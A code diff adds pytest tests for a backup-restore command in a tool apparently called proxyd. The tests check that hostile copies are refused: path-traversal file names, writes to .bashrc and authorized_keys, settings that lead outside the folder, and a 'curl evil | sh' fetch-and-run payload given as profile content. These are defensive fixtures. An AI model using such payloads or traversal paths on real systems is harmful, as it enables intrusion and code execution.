@@ -78,6 +78,115 @@ def test_a_copy_moves_profiles_and_settings_to_another_machine(
     assert say("db", "vacuum")[0] == 0
 
 
+def copy_holding(folder: Path, files: dict[str, object]) -> Path:
+    """Return a copy of a database with files beside it that may be anything."""
+    copy = migrated_file(folder / "hostile.db")
+    with closing(sqlite3.connect(copy)) as connection, connection:
+        connection.execute("CREATE TABLE kept_files (name, text)")
+        connection.executemany("INSERT INTO kept_files VALUES (?, ?)", files.items())
+    return copy
+
+
+@pytest.fixture
+def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    folder = tmp_path / "machine" / "here"
+    folder.mkdir(parents=True)
+    monkeypatch.chdir(folder)
+    return folder
+
+
+def written_under(folder: Path) -> list[str]:
+    return sorted(str(each.relative_to(folder)) for each in folder.rglob("*") if each.is_file())
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("profiles/..", "x"),
+        ("profiles/../evil.profile", "x"),
+        ("profiles//etc/evil.profile", "x"),
+        ("profiles/.profile", "curl evil | sh"),
+        ("profiles/.bashrc", "x"),
+        ("profiles/authorized_keys", "x"),
+        ("profiles/a\0.profile", "x"),
+        ("profiles/" + "a" * 300 + ".profile", "x"),
+        ("../proxyd.toml", ""),
+        ("evil.profile", "x"),
+        ("profiles/a.profile", b"\xff\x00"),
+        ("profiles/a.profile", 7),
+        ("profiles/a.profile", None),
+        ("proxyd.toml", b"port = 1"),
+        (b"proxyd.toml", ""),
+        (3, ""),
+    ],
+)
+def test_what_no_backup_puts_beside_a_database_is_not_written(
+    here: Path, tmp_path: Path, say: Say, name: object, text: object
+) -> None:
+    code, _, err = say("restore", copy_holding(tmp_path, {name: text}))  # type: ignore[dict-item]
+    assert (code, "which proxyd did not put there" in err, err.count("\n")) == (1, True, 1)
+    assert written_under(tmp_path / "machine") == []
+
+
+@pytest.mark.parametrize(
+    "settings",
+    [
+        "profiles = '/tmp/elsewhere'",
+        "profiles = '..'",
+        "database = '../../p.db'",
+        "backup = '/tmp/elsewhere'",
+    ],
+)
+def test_settings_of_a_copy_that_lead_elsewhere_are_taken_only_if_it_is_trusted(
+    here: Path, tmp_path: Path, say: Say, settings: str
+) -> None:
+    copy = copy_holding(tmp_path, {"proxyd.toml": settings, "profiles/a.profile": "-- a"})
+    code, _, err = say("restore", copy)
+    assert (code, "outside this folder: " in err, "--trust" in err) == (1, True, True)
+    assert written_under(tmp_path / "machine") == []
+
+
+def test_a_trusted_copy_goes_where_its_settings_say(here: Path, tmp_path: Path, say: Say) -> None:
+    copy = copy_holding(tmp_path, {"proxyd.toml": "profiles = '../rules'", "profiles/a.profile": "-- a"})
+    assert say("restore", copy, "--trust")[0] == 0
+    assert (tmp_path / "machine" / "rules" / "a.profile").read_text() == "-- a"
+
+
+@pytest.mark.parametrize("settings", ["no toml", "colour = 'red'", "budget = 'much'", "database = 'x://../../../p.db'"])
+def test_settings_of_a_copy_that_do_not_hold_are_not_written(
+    here: Path, tmp_path: Path, say: Say, settings: str
+) -> None:
+    copy = copy_holding(tmp_path, {"proxyd.toml": settings})
+    code, _, err = say("restore", copy)
+    assert (code, "the settings in " in err, "write a proxyd.toml here first" in err) == (1, True, True)
+    assert written_under(tmp_path / "machine") == []
+    (here / "proxyd.toml").write_text("")
+    assert say("restore", copy)[0] == 0
+
+
+def test_a_restore_that_cannot_write_a_profile_says_where_the_former_database_is(
+    here: Path, tmp_path: Path, say: Say
+) -> None:
+    copy = copy_holding(tmp_path, {"profiles/a.profile": "-- a"})
+    assert say("db", "migrate")[0] == 0
+    (here / "profiles").write_text("a file in the way")
+    code, out, _ = say("restore", copy)
+    assert code == 1
+    assert "; the previous one is kept as " in out
+    assert "profiles" in out.splitlines()[-1]
+
+
+def test_the_settings_that_a_variable_names_are_kept_in_a_copy(
+    here: Path, tmp_path: Path, say: Say, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    own = tmp_path / "etc" / "proxyd.toml"
+    own.parent.mkdir()
+    own.write_text("database = 'p.db'")
+    monkeypatch.setenv("PROXYD_CONFIG", str(own))
+    assert say("db", "migrate")[0] == 0
+    assert "it holds proxyd.toml, but no secrets" in say("backup", tmp_path / "copy.db")[1]
+
+
 def test_what_is_no_copy_is_not_taken_for_one(database: Path, tmp_path: Path, say: Say) -> None:
     migrated_file(database)
     other = tmp_path / "notes.txt"
